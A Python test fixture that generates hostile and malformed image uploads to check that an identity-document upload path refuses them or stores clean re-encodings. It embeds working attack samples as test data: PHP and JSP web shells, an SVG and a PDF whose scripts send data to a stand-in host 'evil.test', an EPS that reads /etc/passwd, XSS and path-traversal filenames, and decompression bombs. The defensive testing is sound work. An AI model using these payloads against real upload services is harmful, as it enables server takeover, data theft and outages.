"""A corpus of hostile and awkward uploads, generated in code at test time (no committed binaries).

Each entry says what a careful upload path must do with the file:

- ``REFUSE``: refuse it with a message the applicant can act on (``message`` is a fragment of it);
- ``ACCEPT``: store a clean re-encoding (a plain JPEG or PNG, one frame, no metadata, nothing
  smuggled after the image data); ``check`` may assert more about the stored image;
- ``EITHER``: a mangled file whose fate depends on where the damage fell; refused with a clear
  message or stored clean, but never an error page.

Every builder is deterministic (seeded), so a failure names a file that can be rebuilt exactly.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache

from PIL import Image, ImageDraw, ImageOps

REFUSE, ACCEPT, EITHER = "refuse", "accept", "either"

# Fragments of the upload path's messages, lower case (kyc/uploads/prepare.py, kyc/project/middleware.py).
EMPTY = "empty"
NOT_AN_IMAGE = ("could not be read as an image", "not a jpeg, png, bmp or tiff", "files are not accepted")
TOO_LARGE = ("larger than we accept", "far larger than a document photo")
TOO_SMALL = "pixels. please upload a photo at least"

# Markers planted in hostile files; none of them may survive into stored bytes.
SCRIPT = b"<script>alert(document.domain)</script>"
HTML_PAGE = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
PHP = b"<?php system($_GET['c']); ?>"
GPS_LATITUDE = (25, 11, 50)  # somewhere in Dubai: a location is personal data
# An EXIF segment is checked apart (support.assert_stored_clean): only the orientation may pass.
SMUGGLED_MARKERS = (b"<script", b"<?php", b"<html", b"PK\x03\x04", b"GPS", b"MZ\x90\x00")


@dataclass(frozen=True)
class Hostile:
    name: str
    filename: str
    content_type: str
    build: Callable[[], bytes] = field(repr=False)
    expect: str
    message: str | tuple[str, ...] = ()
    # Extra promises about the stored image, checked on the re-opened PIL image.
    check: Callable[[Image.Image], None] | None = field(default=None, repr=False)

    @property
    def content(self) -> bytes:
        return _built(self.name)

    @property
    def messages(self) -> tuple[str, ...]:
        return (self.message,) if isinstance(self.message, str) else self.message


# --- Building blocks -----------------------------------------------------------------------


def photo(seed: int, size=(640, 420), mode="RGB") -> Image.Image:
    """A busy synthetic 'document photo': unique per seed, so that no two corpus files collide."""
    rng = random.Random(f"hostile-corpus:{seed}")
    image = Image.new("RGB", size, (rng.randrange(160, 230), rng.randrange(160, 230), rng.randrange(160, 230)))
    draw = ImageDraw.Draw(image)
    width, height = size
    for _ in range(40):
        x, y = rng.randrange(width), rng.randrange(height)
        draw.rectangle(
            (x, y, x + rng.randrange(10, 120), y + rng.randrange(4, 30)),
            fill=(rng.randrange(256), rng.randrange(256), rng.randrange(256)),
        )
    return image.convert(mode) if mode != "RGB" else image


def encode(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def raw_png(width: int, height: int, *, bit_depth: int, colour_type: int, rows: Callable[[int], bytes],
            extra_chunks: tuple[tuple[bytes, bytes], ...] = ()) -> bytes:
    """A PNG written by hand, for depths and sizes Pillow will not write (16-bit RGB, bombs).

    ``rows(y)`` gives the unfiltered bytes of row ``y``; the IDAT stream is compressed as it is
    produced, so a 50 MB bomb costs 50 MB of CPU, never 50 MB of memory.
    """
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    compressor = zlib.compressobj(9)
    parts = []
    for y in range(height):
        parts.append(compressor.compress(b"\x00" + rows(y)))
    parts.append(compressor.flush())
    chunks = [_png_chunk(b"IHDR", header)]
    chunks += [_png_chunk(kind, data) for kind, data in extra_chunks]
    chunks.append(_png_chunk(b"IDAT", b"".join(parts)))
    chunks.append(_png_chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def patch_png_size(png: bytes, width: int, height: int) -> bytes:
    """Rewrite IHDR's width and height (and its CRC): a small file that claims a huge image."""
    assert png[12:16] == b"IHDR"
    data = struct.pack(">II", width, height) + png[24:29]
    return png[:8] + _png_chunk(b"IHDR", data) + png[33:]


def patch_jpeg_size(jpeg: bytes, width: int, height: int) -> bytes:
    """Rewrite the SOF0/SOF2 frame header's dimensions."""
    for marker in (b"\xff\xc0", b"\xff\xc2"):
        at = jpeg.find(marker)
        if at != -1:
            return jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :]
    raise ValueError("no SOF marker")


def patch_tiff_size(tiff: bytes, width: int, height: int) -> bytes:
    """Rewrite ImageWidth/ImageLength in a little-endian TIFF's first IFD."""
    assert tiff[:4] == b"II*\x00"
    out = bytearray(tiff)
    (ifd,) = struct.unpack_from("<I", out, 4)
    (count,) = struct.unpack_from("<H", out, ifd)
    for i in range(count):
        entry = ifd + 2 + 12 * i
        tag, kind = struct.unpack_from("<HH", out, entry)
        if tag in (256, 257):
            value = width if tag == 256 else height
            if kind == 3:
                struct.pack_into("<H", out, entry + 8, value)
            else:
                struct.pack_into("<I", out, entry + 8, value)
    return bytes(out)


def tiff_ifd_loop(tiff: bytes) -> bytes:
    """Point the first IFD's 'next IFD' offset back at itself: a reader that walks pages loops."""
    out = bytearray(tiff)
    (ifd,) = struct.unpack_from("<I", out, 4)
    (count,) = struct.unpack_from("<H", out, ifd)
    struct.pack_into("<I", out, ifd + 2 + 12 * count, ifd)
    return bytes(out)


def exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "HostileCam"  # Make
    exif[0x0131] = "corpus-generator"  # Software
    exif[0x010E] = "Alex Tester, passport X1234567"  # ImageDescription: personal data
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = GPS_LATITUDE
    gps[3] = "E"
    gps[4] = (55, 16, 12)
    return exif


def jpeg_with_segment(jpeg: bytes, marker: bytes, payload: bytes) -> bytes:
    """Insert one segment (COM, APPn) right after SOI."""
    return jpeg[:2] + marker + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def flip_bytes(data: bytes, seed: int, *, count: int, start: int, end: int) -> bytes:
    rng = random.Random(f"hostile-flip:{seed}")
    out = bytearray(data)
    for _ in range(count):
        at = rng.randrange(start, min(end, len(out)))
        out[at] = rng.randrange(256)
    return bytes(out)


def minimal_pdf_with_javascript() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        b"<< /Type /Action /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://evil.test/')) >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="640" height="420" '
    b'onload="alert(1)"><script>fetch("/review/").then(r=>r.text()).then(t=>navigator.sendBeacon('
    b'"//evil.test",t))</script><rect width="640" height="420" fill="#ccc"/></svg>'
)

EPS = (
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 640 420\n"
    b"(/etc/passwd) (r) file 100 string readstring pop print\nshowpage\n%%EOF\n"
)


def _zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>")
    return out.getvalue()


def _windows_exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00" + b"\x00" * 200


# --- Checks on stored images -----------------------------------------------------------------


def upright_portrait(image: Image.Image) -> None:
    # Applied where the image is decoded (browsers, readers), from the one EXIF tag kept.
    shown = ImageOps.exif_transpose(image)
    assert shown.size == (420, 640), f"EXIF orientation 6 should be kept or applied: shown size {shown.size}"


def not_blank(image: Image.Image) -> None:
    low, high = image.convert("L").getextrema()
    assert high - low > 40, f"the stored image lost its content (grey levels {low}..{high})"


def one_frame(image: Image.Image) -> None:
    assert getattr(image, "n_frames", 1) == 1, "an animation or a multi-page file was stored as such"
    assert "acTL" not in image.info and not getattr(image, "is_animated", False)


def rgb_not_cmyk(image: Image.Image) -> None:
    assert image.mode in ("RGB", "L"), f"stored in mode {image.mode}"


# --- The corpus ------------------------------------------------------------------------------


def _photo_bytes(seed: int, fmt: str, **options) -> bytes:
    return encode(photo(seed), fmt, **options)


def _cmyk_jpeg() -> bytes:
    return encode(photo(11).convert("CMYK"), "JPEG", quality=90)


def _gradient_16bit_grey() -> bytes:
    # A 16-bit scan uses the whole 0..65535 range; converting without scaling turns it white.
    width, height = 640, 420
    return raw_png(width, height, bit_depth=16, colour_type=0,
                   rows=lambda y: b"".join(struct.pack(">H", (x * 65535) // (width - 1)) for x in range(width)))


def _rgb_48bit() -> bytes:
    width, height = 640, 420
    row = b"".join(struct.pack(">HHH", (x * 65535) // width, 20000, 65535 - (x * 65535) // width) for x in range(width))
    return raw_png(width, height, bit_depth=16, colour_type=2, rows=lambda y: row)


def _tiff_16bit() -> bytes:
    image = Image.new("I;16", (640, 420))
    image.putdata([(x * 65535) // 639 for _y in range(420) for x in range(640)])
    return encode(image, "TIFF")


def _tiff_float() -> bytes:
    image = Image.new("F", (640, 420))
    image.putdata([x / 639 for _y in range(420) for x in range(640)])
    return encode(image, "TIFF")


def _apng() -> bytes:
    frames = [photo(40 + i) for i in range(3)]
    return encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=200, loop=0)


def _multipage_tiff() -> bytes:
    frames = [photo(50 + i) for i in range(3)]
    return encode(frames[0], "TIFF", save_all=True, append_images=frames[1:], compression="tiff_deflate")


def _mpo() -> bytes:
    # A stereo / depth-map camera photo: a JPEG with a second picture (the MPO format).
    return encode(photo(60), "MPO", save_all=True, append_images=[photo(61)], quality=90)


def _animated_gif() -> bytes:
    frames = [photo(70 + i).convert("P") for i in range(3)]
    return encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)


def _animated_webp() -> bytes:
    frames = [photo(80 + i) for i in range(2)]
    return encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=100)


def _exif_gps_jpeg() -> bytes:
    return encode(photo(90), "JPEG", exif=exif_with_gps(), quality=90)


def _exif_rotated_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to view
    return encode(photo(91), "JPEG", exif=exif, quality=90)


def _png_with_exif_and_text() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", HTML_PAGE.decode())
    info.add_itxt("Author", "Alex Tester 护照 X1234567")
    return encode(photo(92), "PNG", pnginfo=info, exif=exif_with_gps())


def _tiff_with_gps() -> bytes:
    return encode(photo(93), "TIFF", exif=exif_with_gps())


def _jpeg_with_icc_and_xmp() -> bytes:
    from PIL import ImageCms

    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description>Alex Tester X1234567' + SCRIPT + b"</rdf:Description></x:xmpmeta>"
    jpeg = encode(photo(94), "JPEG", icc_profile=icc, quality=90)
    return jpeg_with_segment(jpeg, b"\xff\xe1", b"http://ns.adobe.com/xap/1.0/\x00" + xmp)


def _png_with_icc() -> bytes:
    from PIL import ImageCms

    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return encode(photo(95), "PNG", icc_profile=icc)


def _png_bomb() -> bytes:
    # 20000 x 20000 one-bit pixels: 50 MB of zeros inflating from ~50 kB (400 M pixels when decoded).
    return raw_png(20000, 20000, bit_depth=1, colour_type=0, rows=lambda y: b"\x00" * 2500)


def _png_bomb_under_side_limit() -> bytes:
    # Every side under 10 000 px but 81 M pixels: caught by the pixel budget, not the side limit.
    return raw_png(9000, 9000, bit_depth=1, colour_type=0, rows=lambda y: b"\x00" * 1125)


def _png_over_engine_limit(width: int, height: int) -> Callable[[], bytes]:
    # Over the embedded OCR engine's 40 megapixels, under every other limit: refused at upload
    # (issue 17, point 12), no longer accepted only for the case to need attention later.
    return lambda: raw_png(width, height, bit_depth=1, colour_type=0, rows=lambda y: b"\x00" * ((width + 7) // 8))


def _tiff_bomb() -> bytes:
    small = encode(Image.new("L", (256, 256), 255), "TIFF", compression="tiff_deflate")
    return patch_tiff_size(small, 60000, 60000)


def _bmp_giant() -> bytes:
    bmp = bytearray(_photo_bytes(100, "BMP"))
    struct.pack_into("<ii", bmp, 18, 50000, 50000)
    return bytes(bmp)


def _long_strip() -> bytes:
    return encode(Image.new("L", (10001, 200), 200), "PNG")


def _tiny() -> bytes:
    return encode(Image.new("RGB", (1, 1), (0, 200, 0)), "PNG")


def _mangled(seed: int, fmt: str) -> bytes:
    clean = _photo_bytes(200 + seed, fmt)
    # Damage lands in the header area, where parsers make their decisions.
    return flip_bytes(clean, seed, count=6, start=2, end=400)


_P = "image/png"
_J = "image/jpeg"

CORPUS: list[Hostile] = [
    # Controls: if these fail, the harness is wrong, not the upload path.
    Hostile("control-jpeg", "passport.jpg", _J, lambda: _photo_bytes(1, "JPEG", quality=90), ACCEPT),
    Hostile("control-png", "passport.png", _P, lambda: _photo_bytes(2, "PNG"), ACCEPT),
    Hostile("control-bmp", "scan.bmp", "image/bmp", lambda: _photo_bytes(3, "BMP"), ACCEPT),
    Hostile("control-tiff", "scan.tiff", "image/tiff", lambda: _photo_bytes(4, "TIFF"), ACCEPT),
    # Empty and truncated.
    Hostile("zero-bytes", "passport.jpg", _J, lambda: b"", REFUSE, EMPTY),
    Hostile("one-byte", "passport.jpg", _J, lambda: b"\xff", REFUSE, NOT_AN_IMAGE),
    Hostile("jpeg-soi-only", "passport.jpg", _J, lambda: _photo_bytes(5, "JPEG")[:20], REFUSE, NOT_AN_IMAGE),
    Hostile("jpeg-truncated-half", "passport.jpg", _J,
            lambda: (lambda b: b[: len(b) // 2])(_photo_bytes(6, "JPEG", quality=90)), REFUSE, NOT_AN_IMAGE),
    Hostile("png-signature-only", "passport.png", _P, lambda: b"\x89PNG\r\n\x1a\n", REFUSE, NOT_AN_IMAGE),
    Hostile("png-truncated-idat", "passport.png", _P,
            lambda: (lambda b: b[: len(b) * 2 // 3])(_photo_bytes(7, "PNG")), REFUSE, NOT_AN_IMAGE),
    Hostile("tiff-truncated-strips", "scan.tiff", "image/tiff",
            lambda: (lambda b: b[: len(b) // 3])(_photo_bytes(8, "TIFF")), REFUSE, NOT_AN_IMAGE),
    # Not images at all, whatever they claim.
    Hostile("html-named-jpg", "passport.jpg", _J, lambda: HTML_PAGE, REFUSE, NOT_AN_IMAGE),
    Hostile("svg-with-script", "passport.svg", "image/svg+xml", lambda: SVG_WITH_SCRIPT, REFUSE, NOT_AN_IMAGE),
    Hostile("svg-named-png", "passport.png", _P, lambda: SVG_WITH_SCRIPT, REFUSE, NOT_AN_IMAGE),
    Hostile("pdf-with-javascript", "passport.pdf", "application/pdf", minimal_pdf_with_javascript, REFUSE, NOT_AN_IMAGE),
    Hostile("pdf-named-jpg", "passport.jpg", _J, minimal_pdf_with_javascript, REFUSE, NOT_AN_IMAGE),
    Hostile("eps-postscript", "passport.jpg", _J, lambda: EPS, REFUSE, NOT_AN_IMAGE),
    Hostile("php-webshell-named-png", "shell.php.png", _P, lambda: PHP, REFUSE, NOT_AN_IMAGE),
    Hostile("zip-archive", "passport.zip", "application/zip", _zip_bytes, REFUSE, NOT_AN_IMAGE),
    Hostile("windows-exe-named-png", "passport.png", _P, _windows_exe, REFUSE, NOT_AN_IMAGE),
    Hostile("gif-animated", "passport.gif", "image/gif", _animated_gif, REFUSE, NOT_AN_IMAGE),
    Hostile("webp-animated", "passport.webp", "image/webp", _animated_webp, REFUSE, NOT_AN_IMAGE),
    Hostile("ico", "favicon.ico", "image/x-icon", lambda: encode(photo(12).resize((256, 256)), "ICO"), REFUSE, NOT_AN_IMAGE),
    Hostile("xbm-text-image", "passport.png", _P, lambda: encode(photo(13).convert("1"), "XBM"), REFUSE, NOT_AN_IMAGE),
    # Polyglots and smuggled payloads: the image is fine, the rest must not be stored.
    Hostile("jpeg-html-polyglot-trailer", "passport.jpg", _J, lambda: _photo_bytes(20, "JPEG") + HTML_PAGE, ACCEPT),
    Hostile("jpeg-html-in-comment", "passport.html", "text/html",
            lambda: jpeg_with_segment(_photo_bytes(21, "JPEG"), b"\xff\xfe", HTML_PAGE), ACCEPT),
    Hostile("jpeg-zip-polyglot", "passport.jpg", _J, lambda: _photo_bytes(22, "JPEG") + _zip_bytes(), ACCEPT),
    Hostile("png-php-after-iend", "passport.png", _P, lambda: _photo_bytes(23, "PNG") + PHP, ACCEPT),
    Hostile("png-html-in-text-chunks-and-gps", "passport.png", _P, _png_with_exif_and_text, ACCEPT),
    # Metadata that is personal data, or that changes how the image is shown.
    Hostile("jpeg-exif-gps", "IMG_0001.JPG", _J, _exif_gps_jpeg, ACCEPT),
    Hostile("jpeg-exif-orientation", "IMG_0002.JPG", _J, _exif_rotated_jpeg, ACCEPT, check=upright_portrait),
    Hostile("tiff-exif-gps", "scan.tif", "image/tiff", _tiff_with_gps, ACCEPT),
    Hostile("jpeg-icc-and-xmp-with-script", "IMG_0003.JPG", _J, _jpeg_with_icc_and_xmp, ACCEPT),
    Hostile("png-icc-profile", "screenshot.png", _P, _png_with_icc, ACCEPT),
    # Unusual modes and depths: stored as a plain 8-bit image that still shows the document.
    Hostile("jpeg-cmyk", "print.jpg", _J, _cmyk_jpeg, ACCEPT, check=rgb_not_cmyk),
    Hostile("png-16bit-grey", "scan16.png", _P, _gradient_16bit_grey, ACCEPT, check=not_blank),
    Hostile("png-48bit-rgb", "scan48.png", _P, _rgb_48bit, ACCEPT, check=not_blank),
    Hostile("tiff-16bit-grey", "scan16.tif", "image/tiff", _tiff_16bit, ACCEPT, check=not_blank),
    Hostile("tiff-32bit-float", "scanf.tif", "image/tiff", _tiff_float, ACCEPT, check=not_blank),
    Hostile("png-rgba", "cutout.png", _P, lambda: encode(photo(30, mode="RGBA"), "PNG"), ACCEPT),
    Hostile("png-palette", "palette.png", _P, lambda: encode(photo(31).convert("P"), "PNG"), ACCEPT),
    Hostile("png-bilevel", "fax.png", _P, lambda: encode(photo(32).convert("1"), "PNG"), ACCEPT),
    Hostile("png-animated-apng", "passport.png", _P, _apng, ACCEPT, check=one_frame),
    Hostile("tiff-multipage", "scan.tiff", "image/tiff", _multipage_tiff, ACCEPT, check=one_frame),
    Hostile("jpeg-mpo-stereo", "DSC_0004.JPG", _J, _mpo, ACCEPT, check=one_frame),
    # Sizes: bombs, giant headers, slivers.
    Hostile("png-decompression-bomb", "passport.png", _P, _png_bomb, REFUSE, TOO_LARGE),
    Hostile("png-bomb-under-side-limit", "passport.png", _P, _png_bomb_under_side_limit, REFUSE, TOO_LARGE),
    Hostile("png-40-megapixels-and-a-bit", "passport.png", _P, _png_over_engine_limit(6325, 6325), REFUSE, TOO_LARGE),
    Hostile("png-48-megapixels", "passport.png", _P, _png_over_engine_limit(8000, 6000), REFUSE, TOO_LARGE),
    Hostile("jpeg-header-60-megapixels", "passport.jpg", _J,
            lambda: patch_jpeg_size(_photo_bytes(103, "JPEG"), 7745, 7745), REFUSE, TOO_LARGE),
    Hostile("png-header-65535-square", "passport.png", _P,
            lambda: patch_png_size(_photo_bytes(101, "PNG"), 65535, 65535), REFUSE, TOO_LARGE),
    Hostile("jpeg-header-65500-square", "passport.jpg", _J,
            lambda: patch_jpeg_size(_photo_bytes(102, "JPEG"), 65500, 65500), REFUSE, TOO_LARGE),
    Hostile("tiff-decompression-bomb", "scan.tiff", "image/tiff", _tiff_bomb, REFUSE, TOO_LARGE),
    Hostile("bmp-header-50000-square", "scan.bmp", "image/bmp", _bmp_giant, REFUSE, TOO_LARGE),
    Hostile("png-10001-wide-strip", "strip.png", _P, _long_strip, REFUSE, TOO_LARGE),
    Hostile("png-1x1", "pixel.png", _P, _tiny, REFUSE, TOO_SMALL),
    Hostile("tiff-ifd-loop", "scan.tiff", "image/tiff",
            lambda: tiff_ifd_loop(_multipage_tiff()), EITHER, NOT_AN_IMAGE),
    # File names: none of this may reach the storage path or be echoed unescaped.
    Hostile("name-path-traversal", "../../../../../etc/cron.d/passport.png", _P, lambda: _photo_bytes(110, "PNG"), ACCEPT),
    Hostile("name-windows-traversal", "..\\..\\..\\Windows\\System32\\passport.jpg", _J,
            lambda: _photo_bytes(111, "JPEG"), ACCEPT),
    Hostile("name-unicode", "护照 جواز سفر 🛂 Ünïcödé.png", _P, lambda: _photo_bytes(112, "PNG"), ACCEPT),
    Hostile("name-rtl-override", "passport\u202egnp.exe", _P, lambda: _photo_bytes(113, "PNG"), ACCEPT),
    Hostile("name-html", '"><img src=x onerror=alert(1)>.png', _P, lambda: _photo_bytes(114, "PNG"), ACCEPT),
    Hostile("name-very-long", "a" * 600 + ".png", _P, lambda: _photo_bytes(115, "PNG"), ACCEPT),
    Hostile("name-no-extension", "passport", "application/octet-stream", lambda: _photo_bytes(116, "JPEG"), ACCEPT),
    Hostile("name-exe-with-png-content", "passport.exe", "application/x-msdownload",
            lambda: _photo_bytes(117, "PNG"), ACCEPT),
    Hostile("name-png-with-jpeg-content", "passport.png", _P, lambda: _photo_bytes(118, "JPEG"), ACCEPT),
    # Mangled headers (seeded): whatever happens, it is a clear refusal or a clean image.
    *(
        Hostile(f"mangled-{fmt.lower()}-{seed}", f"mangled.{fmt.lower()}", "image/" + fmt.lower(),
                (lambda seed=seed, fmt=fmt: _mangled(seed, fmt)), EITHER, NOT_AN_IMAGE + TOO_LARGE + (TOO_SMALL,))
        for fmt in ("JPEG", "PNG", "TIFF", "BMP")
        for seed in (1, 2)
    ),
]

BY_NAME = {item.name: item for item in CORPUS}
assert len(BY_NAME) == len(CORPUS), "corpus names must be unique"


@cache
def _built(name: str) -> bytes:
    return BY_NAME[name].build()
